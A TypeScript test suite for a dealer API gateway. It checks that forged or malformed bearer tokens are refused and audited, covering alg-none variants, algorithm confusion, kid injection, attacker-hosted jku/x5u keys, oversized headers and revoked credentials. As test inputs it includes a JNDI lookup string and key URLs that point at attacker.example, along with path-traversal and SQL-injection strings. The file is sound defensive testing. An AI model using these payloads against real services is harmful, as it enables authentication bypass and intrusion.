import { generateKeyPairSync, randomUUID } from "node:crypto";
import jwt from "jsonwebtoken";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { asAdmin, auditOf } from "./dealer-api.support";
import { dealerWithAccess, type DealerWithAccess } from "./support/fixtures";
import { startTestGateway, testKeys, type TestGateway } from "./support/gateway";
import { send, sendBytes } from "./support/raw-http";

/**
 * Bearer-token attacks beyond the forgeries of roles-and-audiences.test.ts: algorithm spellings,
 * kid injection, keys offered by URL, oversized tokens and headers, tokens outside the Authorization
 * header, and tokens whose credential or dealer has been cut off, on every dealer endpoint. Each is a
 * 401 (431 for a header too large to parse), the same body every time, and audited when it reached
 * the gateway.
 */
let gw: TestGateway;
let access: DealerWithAccess;
beforeAll(async () => {
  gw = await startTestGateway();
  access = await dealerWithAccess(gw, "service_delivery");
});
afterAll(async () => {
  await gw?.stop();
});

const now = () => Math.floor(Date.now() / 1000);
const b64 = (value: unknown) => Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
const claims = () => ({
  iss: gw.config.JWT_ISSUER, aud: "dealer-api", sub: access.credential.clientId, dealer_id: access.dealer.id, scope: "purpose:service_delivery",
  iat: now(), nbf: now(), exp: now() + 300, jti: randomUUID(),
});

/** Signs with the gateway's own key under any header, so only the header is at fault. */
function signedWithHeader(header: Record<string, unknown>, payload: Record<string, unknown> = claims()): string {
  // jsonwebtoken would otherwise add an iat of its own to a payload without one.
  return jwt.sign(payload, testKeys().privateKey, { algorithm: "ES256", noTimestamp: !("iat" in payload), header: { alg: "ES256", typ: "at+jwt", kid: testKeys().kid, ...header } as jwt.JwtHeader });
}

/** A token whose header says `alg` but which is signed however `sign` likes. */
function withAlg(alg: string, signature = ""): string {
  return `${b64({ alg, typ: "at+jwt", kid: testKeys().kid })}.${b64(claims())}.${signature}`;
}

const read = (authorization?: string) => {
  const request = gw.http.get(`/v1/customers/${access.customer.id}?purpose=service_delivery`);
  return authorization === undefined ? request : request.set("Authorization", authorization);
};

async function expectRefused(response: { status: number; body: Record<string, unknown>; headers: Record<string, string> }, reasons: string[]): Promise<string> {
  expect(response.status).toBe(401);
  expect(response.body).toMatchObject({ status: 401, code: "unauthorized" });
  expect(response.body.data).toBeUndefined();
  const events = await auditOf(gw, response as never);
  expect(events).toHaveLength(1);
  expect(events[0]).toMatchObject({ action: "auth.bearer", decision: "deny", status: 401 });
  expect(reasons).toContain(events[0]!.reason);
  return JSON.stringify({ ...response.body, requestId: undefined });
}

describe("algorithm confusion", () => {
  it("when the token is genuine, then it is accepted, so each refusal below has one cause", async () => {
    await read(`Bearer ${signedWithHeader({})}`).expect(200);
  });

  it.each(["None", "NONE", "nOnE", "none"])("when alg is %s, with or without a signature, then 401 token_algorithm_wrong", async (alg) => {
    const genuine = signedWithHeader({}).split(".")[2]!;
    await expectRefused(await read(`Bearer ${withAlg(alg)}`), ["token_algorithm_wrong"]);
    await expectRefused(await read(`Bearer ${withAlg(alg, genuine)}`), ["token_algorithm_wrong"]);
  });

  it.each(["ES384", "ES512", "RS256", "PS256", "HS512", "EdDSA", ""])("when alg is %s over a genuine ES256 signature, then 401 token_algorithm_wrong", async (alg) => {
    await expectRefused(await read(`Bearer ${withAlg(alg, signedWithHeader({}).split(".")[2]!)}`), ["token_algorithm_wrong"]);
  });

  it("when an HS512 token is signed with the JWKS key as its secret, then 401", async () => {
    const jwk = JSON.stringify((await gw.http.get("/.well-known/jwks.json").expect(200)).body.keys[0]);
    const token = jwt.sign(claims(), jwk, { algorithm: "HS512", header: { alg: "HS512", typ: "at+jwt", kid: testKeys().kid } as jwt.JwtHeader });
    await expectRefused(await read(`Bearer ${token}`), ["token_algorithm_wrong"]);
  });
});

describe("key selection", () => {
  const stranger = () => generateKeyPairSync("ec", { namedCurve: "prime256v1" });

  it.each([
    ["a path traversal", "../../../../../../dev/null"],
    ["an SQL injection", "' OR '1'='1"],
    ["a JNDI lookup", "${jndi:ldap://attacker.example/a}"],
    ["a URL", "https://attacker.example/jwks.json"],
    ["10 000 characters", "k".repeat(10_000)],
    ["a number", 1],
    ["an object", { $ne: null }],
    ["an array", [testKeys().kid]],
    ["null", null],
  ])("when kid is %s, then 401 token_key_unknown and nothing is looked up by it", async (_name, kid) => {
    await expectRefused(await read(`Bearer ${signedWithHeader({ kid })}`), ["token_key_unknown"]);
  });

  it.each(["jku", "x5u"])("when the header points %s at the attacker's keys, then the gateway still verifies with its own and refuses", async (name) => {
    const key = stranger();
    const token = jwt.sign(claims(), key.privateKey, { algorithm: "ES256", header: { alg: "ES256", typ: "at+jwt", kid: testKeys().kid, [name]: "https://attacker.example/keys" } as jwt.JwtHeader });
    await expectRefused(await read(`Bearer ${token}`), ["token_signature_invalid"]);
  });

  it("when the header embeds the attacker's certificate chain, then 401 token_signature_invalid", async () => {
    const key = stranger();
    const token = jwt.sign(claims(), key.privateKey, { algorithm: "ES256", header: { alg: "ES256", typ: "at+jwt", kid: testKeys().kid, x5c: ["MIIBfake"] } as jwt.JwtHeader });
    await expectRefused(await read(`Bearer ${token}`), ["token_signature_invalid"]);
  });
});

describe("size and placement", () => {
  it("when a token carries 8 KB of padding claims, then it is refused 401 and audited, and the gateway keeps serving", async () => {
    const bloated = jwt.sign({ ...claims(), padding: "p".repeat(8_000) }, generateKeyPairSync("ec", { namedCurve: "prime256v1" }).privateKey, {
      algorithm: "ES256", header: { alg: "ES256", typ: "at+jwt", kid: testKeys().kid } as jwt.JwtHeader,
    });
    await expectRefused(await read(`Bearer ${bloated}`), ["token_signature_invalid"]);
    await read(`Bearer ${access.token}`).expect(200);
  });

  it("when the Authorization header is 100 KB, then 431 problem+json, never a 5xx, and the gateway keeps serving", async () => {
    const host = new URL(gw.url).host;
    const response = await sendBytes(gw.url, `GET /v1/customers/${access.customer.id}?purpose=service_delivery HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${"a".repeat(100_000)}\r\n\r\n`);
    expect(response.status).toBe(431);
    expect(response.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(response.json).toMatchObject({ status: 431, code: "headers_too_large" });
    await read(`Bearer ${access.token}`).expect(200);
  });

  it.each([
    ["in the query string", () => send(gw.url, { method: "GET", path: `/v1/customers/${access.customer.id}?purpose=service_delivery&access_token=${access.token}` })],
    ["in a cookie", () => send(gw.url, { method: "GET", path: `/v1/customers/${access.customer.id}?purpose=service_delivery`, headers: { Cookie: `access_token=${access.token}` } })],
    ["in a form body", () => send(gw.url, { method: "POST", path: "/v1/customers/lookup?purpose=service_delivery", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: `access_token=${access.token}&email=x%40y.z` })],
  ])("when the genuine token is sent %s rather than in Authorization, then it is not accepted", async (_name, request) => {
    const response = await request();
    expect([400, 401, 415]).toContain(response.status);
    expect(response.json?.data).toBeUndefined();
    expect(response.json?.matches).toBeUndefined();
  });

  it.each([
    ["a Basic scheme holding the token", () => `Basic ${access.token}`],
    ["the token with trailing garbage", () => `Bearer ${access.token}.extra`],
    ["the token with its signature cut", () => `Bearer ${access.token.split(".").slice(0, 2).join(".")}.`],
    ["the scheme alone", () => "Bearer"],
    ["an empty header", () => ""],
  ])("when the Authorization header is %s, then 401, audited", async (_name, header) => {
    await expectRefused(await read(header()), ["token_missing", "token_malformed", "token_signature_invalid", "token_algorithm_wrong", "token_invalid"]);
  });
});

describe("cut-off credentials and dealers, on every dealer endpoint", () => {
  const endpoints: [string, (token: string, a: DealerWithAccess) => Promise<{ status: number; body: Record<string, unknown>; headers: Record<string, string> }>][] = [
    ["a read", (token, a) => gw.http.get(`/v1/customers/${a.customer.id}?purpose=service_delivery`).auth(token, { type: "bearer" })],
    ["a lookup", (token, a) => gw.http.post("/v1/customers/lookup?purpose=service_delivery").auth(token, { type: "bearer" }).send({ email: a.customer.email })],
    ["a list", (token) => gw.http.get("/v1/customers?purpose=service_delivery").auth(token, { type: "bearer" })],
    ["the feed", (token) => gw.http.get("/v1/consent-events").auth(token, { type: "bearer" })],
    ["an acknowledgement", (token) => gw.http.post("/v1/consent-events/ack").auth(token, { type: "bearer" }).send({ upTo: "1" })],
  ];

  it.each([
    ["its credential is revoked", "credential_revoked", (a: DealerWithAccess) => asAdmin(gw, "delete", `/v1/admin/dealers/${a.dealer.id}/credentials/${a.credential.clientId}`)],
    ["its dealer is suspended", "dealer_suspended", (a: DealerWithAccess) => asAdmin(gw, "post", `/v1/admin/dealers/${a.dealer.id}/suspend`)],
  ] as const)("when a token's %s, then every dealer endpoint answers the same 401, each audited with %s", async (_name, reason, cutOff) => {
    const own = await dealerWithAccess(gw, "service_delivery");
    for (const [what, call] of endpoints) expect((await call(own.token, own)).status, what).toBeLessThan(401);
    expect((await cutOff(own)).status).toBeLessThan(300);
    const bodies = new Set<string>();
    for (const [, call] of endpoints) bodies.add(await expectRefused(await call(own.token, own), [reason]));
    expect(bodies.size).toBe(1);
    const acks = await gw.dataSource.query("SELECT * FROM dealer_event_acks WHERE dealer_id = ?", [own.dealer.id]);
    expect(acks).toEqual([]);
  });
});

describe("token lifetime", () => {
  const TEN_YEARS = 10 * 365 * 86_400;
  const adminClaims = async () => ({
    iss: gw.config.JWT_ISSUER, aud: "admin-api", sub: (jwt.decode(await gw.adminToken()) as { sub: string }).sub, scope: "user_admin", gen: 0,
    iat: now(), nbf: now(), exp: now() + 300, jti: randomUUID(),
  });
  const adminRead = (token: string) => gw.http.get("/v1/purposes").set("Authorization", `Bearer ${token}`);

  it("when a dealer token lives exactly DEALER_TOKEN_TTL_SECONDS, then it is accepted, so the refusals below test the lifetime alone", async () => {
    await read(`Bearer ${signedWithHeader({}, { ...claims(), exp: now() + gw.config.DEALER_TOKEN_TTL_SECONDS })}`).expect(200);
  });

  it.each([
    ["ten years", () => TEN_YEARS],
    ["one second more than DEALER_TOKEN_TTL_SECONDS", () => gw.config.DEALER_TOKEN_TTL_SECONDS + 1],
  ])("when a dealer token signed with the gateway's key lives %s, then 401 token_lifetime_too_long", async (_name, lifetime) => {
    await expectRefused(await read(`Bearer ${signedWithHeader({}, { ...claims(), exp: now() + lifetime() })}`), ["token_lifetime_too_long"]);
  });

  it("when a dealer token signed with the gateway's key has no iat, then 401 token_issued_at_missing", async () => {
    const { iat: _dropped, ...withoutIat } = claims();
    await expectRefused(await read(`Bearer ${signedWithHeader({}, withoutIat)}`), ["token_issued_at_missing"]);
  });

  it("when an admin token lives longer than ADMIN_TOKEN_TTL_SECONDS, then 401 token_lifetime_too_long, and within it, 200", async () => {
    const ttl = gw.config.ADMIN_TOKEN_TTL_SECONDS;
    await adminRead(signedWithHeader({}, { ...(await adminClaims()), exp: now() + ttl })).expect(200);
    for (const lifetime of [ttl + 1, TEN_YEARS]) {
      const response = await adminRead(signedWithHeader({}, { ...(await adminClaims()), exp: now() + lifetime }));
      expect(response.status).toBe(401);
      expect((await auditOf(gw, response as never))[0]).toMatchObject({ action: "auth.bearer", decision: "deny", reason: "token_lifetime_too_long" });
    }
  });

  it("when the same long-lived token comes again, then it is refused again: no cache lets it through", async () => {
    const token = signedWithHeader({}, { ...claims(), exp: now() + TEN_YEARS });
    await expectRefused(await read(`Bearer ${token}`), ["token_lifetime_too_long"]);
    await expectRefused(await read(`Bearer ${token}`), ["token_lifetime_too_long"]);
  });
});
